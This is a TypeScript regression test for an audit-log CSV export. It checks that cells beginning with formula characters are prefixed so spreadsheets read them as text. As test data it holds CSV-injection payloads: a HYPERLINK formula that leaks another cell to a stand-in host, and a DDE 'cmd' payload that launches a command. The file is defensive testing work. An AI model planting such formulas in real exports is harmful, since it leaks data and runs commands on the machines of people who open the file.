// Why 11 of issue 9: the CSV export wrote what a requester typed as live spreadsheet cells, so
// a reason =HYPERLINK("https://x.example/?"&E2,"runbook") became a link that sends another
// cell to a stranger, and a ticket =1+1 a formula. A cell starting with =, +, -, @, TAB or CR
// is now prefixed with ' (csv-stringify's escape_formulas), the OWASP "CSV injection" advice.
import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { getRecordHash } from '../../src/core/audit/chain';
import { type AuditRecord } from '../../src/core/audit/events';
import { auditCsvColumns, toCsv } from '../../src/core/audit/exportRecords';

const actor = 'arn:aws:iam::111122223333:user/erin.employee';

function record(seq: number, change: Partial<AuditRecord>): AuditRecord {
  const unhashed = {
    seq,
    time: '2025-01-15T12:00:00.000Z',
    event: 'access.requested',
    outcome: 'success',
    actor,
    role: 'Employee',
    account: '111122223333',
    service: 'rds',
    level: 'read',
    durationSeconds: 1800,
    requestId: `iw-${seq}`,
    prevHash: '0'.repeat(64),
    ...change,
  } as Omit<AuditRecord, 'hash'>;
  return { ...unhashed, hash: getRecordHash(unhashed) } as AuditRecord;
}

const leading = ['=', '+', '-', '@', '\t', '\r'] as const;

describe('adversarial: CSV export defuses formulas (issue 9, Why 11)', () => {
  it('exports the reported reason and ticket as text, not as a link and a formula', () => {
    const reason = '=HYPERLINK("https://x.example/?"&E2,"runbook")';
    const text = toCsv([record(1, { reason, ticket: '=1+1' })]);
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    assert.equal(row!.reason, `'${reason}`);
    assert.equal(row!.ticket, "'=1+1");
  });

  for (const char of leading) {
    it(`prefixes a cell starting with ${JSON.stringify(char)} in every text column, and keeps one row per record`, () => {
      const value = `${char}cmd|' /C calc'!A0`;
      const records = [
        record(1, { reason: value, ticket: value, detail: { note: value } }),
        record(2, { reason: 'plain' }),
      ];
      const text = toCsv(records);
      const rows = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
      assert.equal(rows.length, 2, 'a CR must not split a record');
      assert.deepEqual(Object.keys(rows[0]!), [...auditCsvColumns]);
      assert.equal(rows[0]!.reason, `'${value}`);
      assert.equal(rows[0]!.ticket, `'${value}`);
      assert.equal(rows[1]!.reason, 'plain');
      for (const row of rows) {
        for (const column of auditCsvColumns) {
          assert.ok(
            !leading.some((c) => row[column]!.startsWith(c)),
            `${column} starts a live cell: ${JSON.stringify(row[column])}`,
          );
        }
      }
    });
  }
});
